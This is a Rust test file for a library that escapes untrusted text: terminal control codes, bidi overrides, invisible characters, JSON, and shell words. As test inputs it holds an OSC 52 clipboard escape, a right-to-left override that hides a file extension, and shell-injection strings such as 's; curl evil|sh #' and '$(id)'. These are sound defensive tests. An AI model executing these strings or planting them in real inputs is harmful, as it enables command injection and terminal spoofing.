//! Escaped text from outside: nothing in it steers a terminal or hides, and nothing is escaped twice.

use std::ops::RangeInclusive;

use acpd_api::{Untrusted, escape, json};
use proptest::prelude::*;
use serde_json::{Value, json};

/// Characters that must never reach a terminal, written down without a look at the code.
const NEVER: [RangeInclusive<char>; 25] = [
    '\0'..='\u{8}',
    '\u{b}'..='\u{1f}',
    '\u{7f}'..='\u{9f}',
    '\u{ad}'..='\u{ad}',
    '\u{34f}'..='\u{34f}',
    '\u{61c}'..='\u{61c}',
    '\u{115f}'..='\u{1160}',
    '\u{17b4}'..='\u{17b5}',
    '\u{180b}'..='\u{180f}',
    '\u{200b}'..='\u{200b}',
    '\u{200e}'..='\u{200f}',
    '\u{2028}'..='\u{202e}',
    '\u{2060}'..='\u{206f}',
    '\u{2800}'..='\u{2800}',
    '\u{3164}'..='\u{3164}',
    '\u{e000}'..='\u{f8ff}',
    '\u{fe00}'..='\u{fe0d}',
    '\u{feff}'..='\u{feff}',
    '\u{ffa0}'..='\u{ffa0}',
    '\u{fff0}'..='\u{fffb}',
    '\u{fffe}'..='\u{ffff}',
    '\u{1bca0}'..='\u{1bca3}',
    '\u{1d173}'..='\u{1d17a}',
    '\u{e0000}'..='\u{e0fff}',
    '\u{f0000}'..='\u{10ffff}',
];
/// Characters that only running text may hold.
const ONLY_PROSE: [RangeInclusive<char>; 8] = [
    '\n'..='\n',
    '\u{a0}'..='\u{a0}',
    '\u{1680}'..='\u{1680}',
    '\u{2000}'..='\u{200a}',
    '\u{200c}'..='\u{200d}',
    '\u{202f}'..='\u{202f}',
    '\u{205f}'..='\u{205f}',
    '\u{3000}'..='\u{3000}',
];

fn is_in(ranges: &[RangeInclusive<char>], char: char) -> bool {
    !matches!(char, ' '..='~') && ranges.iter().any(|range| range.contains(&char))
}

fn never_in_prose(char: char) -> bool {
    is_in(&NEVER, char)
}

fn never_in_a_line(char: char) -> bool {
    never_in_prose(char) || is_in(&ONLY_PROSE, char)
}

/// The text that was escaped so.
fn meant(shown: &str) -> String {
    let mut text = String::new();
    let mut rest = shown;
    while let Some((before, number)) = rest.split_once("<U+") {
        let (digits, after) = number.split_once('>').expect("the end of a number");
        text.push_str(before);
        text.push(char::from_u32(u32::from_str_radix(digits, 16).unwrap()).unwrap());
        rest = after;
    }
    text + rest
}

#[test]
fn m6_every_character_is_shown_as_it_is_or_by_its_number() {
    // There is nothing between plane 3 and the tags, and after them everything is private.
    let all =
        || ('\0'..='\u{3ffff}').chain('\u{e0000}'..='\u{e0fff}').chain(['\u{80000}', char::MAX]);
    let all = || all().filter(|char| *char != ' ');
    let text: Vec<String> = all().map(String::from).collect();
    let text = text.join(" ");
    let line = escape::verbatim(&text).to_string();
    let prose = escape::prose(&text).to_string();
    assert!(!line.contains(never_in_a_line) && !prose.contains(never_in_prose));
    assert_eq!(meant(&line), text);
    for shown in [line, prose] {
        for (shown, char) in shown.split(' ').zip(all()) {
            let number = || format!("<U+{:04X}>", u32::from(char));
            assert!(shown.chars().eq([char]) || shown == number(), "{shown}");
        }
    }
    let json = json::line(&text).unwrap();
    assert!(!json.contains(never_in_a_line));
    assert_eq!(serde_json::from_str::<String>(&json).unwrap(), text);
}

#[test]
fn what_people_write_stays() {
    for text in [
        "Grüße, naïve, e\u{301}, 日本語、한국어, ไทย, हिन्दी, עברית, العربية, ☕ → « » “ ” …",
        "⚠\u{fe0f} 1\u{fe0f}\u{20e3} 🧑🏽 👍 ❤\u{fe0f} ✔\u{fe0e}",
        "if a < b && b > c { \\u{202e} } U+202E <U >",
        "\ttabs stay",
    ] {
        assert_eq!(escape::verbatim(text).to_string(), text);
        assert_eq!(escape::prose(text).to_string(), text);
    }
    for text in ["می\u{200c}خواهم", "👨\u{200d}👩\u{200d}👧", "a\u{a0}: b\u{3000}c", "two\nlines"]
    {
        assert_eq!(escape::prose(text).to_string(), text);
        assert_ne!(escape::verbatim(text).to_string(), text);
    }
}

#[test]
fn m6_what_hides_is_shown_by_its_number() {
    let line = |text: &str| Untrusted::from(text).one_line().to_string();
    assert_eq!(line("a\u{1b}]52;c;x\u{7}b"), "a<U+001B>]52;c;x<U+0007>b");
    assert_eq!(line("  two\r\n\t lines\u{8} "), "two lines<U+0008>");
    assert_eq!(line("safe\u{202e}hs.x"), "safe<U+202E>hs.x");
    assert_eq!(line("r\u{200d}m\u{fe0f} \u{200b}x"), "r<U+200D>m<U+FE0F> <U+200B>x");
    assert_eq!(line("\u{e0041}⚠\u{fe0f}\u{fe0f}"), "<U+E0041>⚠\u{fe0f}<U+FE0F>");
    assert_eq!(line("a\u{a0}b\u{2028}c"), "a<U+00A0>b<U+2028>c");
    let prose = |text: &str| Untrusted::from(text).prose().to_string();
    assert_eq!(prose("a\r\nb\rc\u{9b}1m\u{7f}"), "a\nb<U+000D>c<U+009B>1m<U+007F>");
    assert_eq!(format!("{:?}", Untrusted::from("a\n\u{202e}")), "\"a<U+000A><U+202E>\"");
}

#[test]
fn a_text_that_has_a_number_itself_is_told_from_one_that_is_shown_so() {
    let line = |text: &str| escape::verbatim(text).to_string();
    assert_eq!(line("<U+202E>"), "<U+003C>U+202E>");
    assert_eq!(line("<\u{202e}<U+"), "<<U+202E><U+003C>U+");
    assert_eq!(escape::prose("a log: <U+202E>").to_string(), "a log: <U+202E>");
}

#[test]
fn l5_json_says_the_same_in_characters_that_are_seen() {
    let value = json!({"a\u{202e}": "\u{1b}\u{7f}\u{9b}é日\u{e0041}\n", "b": [1, "\u{feff}"]});
    let line = json::line(&value).unwrap();
    let shown = r#"{"a\u202e":"\u001b\u007f\u009bé日\udb40\udc41\n","b":[1,"\ufeff"]}"#;
    assert_eq!(line, shown);
    assert_eq!(serde_json::from_str::<Value>(&json::pretty(&value).unwrap()).unwrap(), value);
    // A line that is passed on has the white space of its sender.
    let raw: &serde_json::value::RawValue =
        serde_json::from_str("{\"a\":\t\"\u{80}\",\r\"b\": 1}").unwrap();
    assert_eq!(json::line(raw).unwrap(), r#"{"a": "\u0080", "b": 1}"#);
}

/// Text in which everything is near that matters.
fn texts() -> impl Strategy<Value = String> {
    let pieces = prop_oneof![
        4 => any::<char>().prop_map(String::from),
        2 => prop::sample::select(&["<", "<U+", "<U+202E>", "U+", ">", "\r\n", "\r", "\n", "a", "⚠", " ", "\t"][..])
            .prop_map(str::to_owned),
        2 => prop::sample::select(&['\u{1b}', '\u{202e}', '\u{200d}', '\u{fe0f}', '\u{20e3}', '\u{e0041}', '\u{a0}'][..])
            .prop_map(String::from),
    ];
    prop::collection::vec(pieces, 0..24).prop_map(|pieces| pieces.concat())
}

proptest! {
    #[test]
    fn nothing_that_hides_is_left_and_nothing_is_lost(text in texts()) {
        let line = escape::verbatim(&text).to_string();
        prop_assert!(!line.contains(never_in_a_line), "{}", line);
        prop_assert_eq!(meant(&line), text.clone());

        let prose = escape::prose(&text).to_string();
        prop_assert!(!prose.contains(never_in_prose), "{}", prose);
        prop_assert_eq!(escape::prose(&prose).to_string(), prose.clone());

        let one = escape::one_line(&text).to_string();
        prop_assert!(!one.contains(never_in_a_line) && !one.contains('\t'), "{}", one);
        let space = [' ', '\t', '\n', '\r'];
        let words: Vec<&str> = text.split(space).filter(|word| !word.is_empty()).collect();
        prop_assert_eq!(meant(&one), words.join(" "));

        let json = json::line(&text).unwrap();
        prop_assert!(!json.contains(never_in_a_line), "{}", json);
        prop_assert_eq!(serde_json::from_str::<String>(&json).unwrap(), text);
    }

}

#[test]
fn a_word_of_a_command_is_one_word_for_a_shell() {
    assert_eq!(escape::shell_word("demo-1/a.b:c@d_e"), "demo-1/a.b:c@d_e");
    for (text, word) in [
        ("s; curl evil|sh #", "'s; curl evil|sh #'"),
        ("it's", r"'it'\''s'"),
        ("$(id)`id`", "'$(id)`id`'"),
        ("-rf", "'-rf'"),
        ("", "''"),
    ] {
        assert_eq!(escape::shell_word(text), word);
    }
}
